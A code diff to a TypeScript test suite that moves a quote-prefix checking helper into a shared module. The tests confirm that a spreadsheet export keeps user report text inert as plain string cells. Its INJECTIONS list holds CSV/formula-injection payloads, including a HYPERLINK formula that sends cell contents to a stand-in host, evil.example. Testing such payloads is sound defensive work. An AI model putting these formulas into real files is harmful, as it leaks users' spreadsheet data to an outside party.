@@ -25,7 +25,7 @@ import {
   reportInput,
   startUploader,
 } from '../helpers/journey';
-import { cellTypeInXml, fetchFile, readWorkbook, sheetXml, unzip } from '../helpers/ledger';
+import { cellTypeInXml, fetchFile, quotePrefixed, readWorkbook, sheetXml, unzip } from '../helpers/ledger';
 import { ADMIN, okData, startTestCloud, type TestCloud } from '../helpers/local-cloud';
 
 const INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1', '-1', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
@@ -231,15 +231,6 @@ test('status, latest version, review and evidence of each row', () => {
   );
 });
 
-/** Whether cell `ref`'s style (its xf in styles.xml) has quotePrefix="1". */
-function quotePrefixed(xml: string, ref: string): boolean {
-  const style = Number(/\bs="(\d+)"/.exec(new RegExp(`<c r="${ref}"([^>]*)>`).exec(xml)?.[1] ?? '')?.[1] ?? 0);
-  const styles = unzip(xlsx).get('xl/styles.xml')?.toString('utf8') ?? '';
-  const xfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '';
-  const xf = xfs.match(/<xf [^>]*>/g)?.[style] ?? '';
-  return xf.includes('quotePrefix="1"');
-}
-
 test.each(INJECTIONS.map((text, i) => [JSON.stringify(text), text, TASKS[i] as number]))(
   'report text %s is a string cell that stays text, and so are its file names and link title',
   (_label, text, taskNo) => {
@@ -249,9 +240,9 @@ test.each(INJECTIONS.map((text, i) => [JSON.stringify(text), text, TASKS[i] as n
     // apostrophe): the cell's style carries the quote prefix, so it stays text when edited.
     expect(sheet.getCell(`L${r}`).text).toBe(text.replace(/\r/g, '\n'));
     expect(cellTypeInXml(xml, `L${r}`)).toBe('inlineStr');
-    expect(quotePrefixed(xml, `L${r}`)).toBe(true);
+    expect(quotePrefixed(xlsx, xml, `L${r}`)).toBe(true);
     // An ordinary text next to it has no quote prefix.
-    expect(quotePrefixed(xml, `J${r}`)).toBe(false);
+    expect(quotePrefixed(xlsx, xml, `J${r}`)).toBe(false);
     const evidence = sheet.getCell(`R${r}`).text;
     expect(evidence).toContain(`${text.replace(/\r/g, '\n')}.jpg`);
     expect(evidence).toContain(`链接：${text.replace(/\r/g, '\n')} https://`);
